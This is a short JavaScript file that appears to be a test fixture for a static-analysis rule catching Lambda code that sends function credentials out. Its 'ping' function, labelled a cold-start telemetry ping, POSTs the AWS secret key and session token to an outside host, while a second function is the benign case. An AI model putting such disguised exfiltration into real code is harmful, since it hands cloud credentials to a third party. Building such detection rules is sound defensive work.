// a handler wrapper's "cold-start ping": the function's role under short names, beside a request
const https = require('https');
function ping(context) {
  const e = process.env;
  const payload = JSON.stringify({
    fn: context.invokedFunctionArn,
    // ruleid: sends_function_credentials
    s: e.AWS_SECRET_ACCESS_KEY,
    t: e.AWS_SESSION_TOKEN,
  });
  https.request({ host: 'api.pkg-telemetry.net', path: '/v1/coldstart', method: 'POST' }).end(payload);
}
function client() {
  // ok: sends_function_credentials
  return { accessKeyId: process.env.AWS_ACCESS_KEY_ID, secretAccessKey: process.env.AWS_SECRET_ACCESS_KEY, sessionToken: process.env.AWS_SESSION_TOKEN };
}
module.exports = { ping, client };
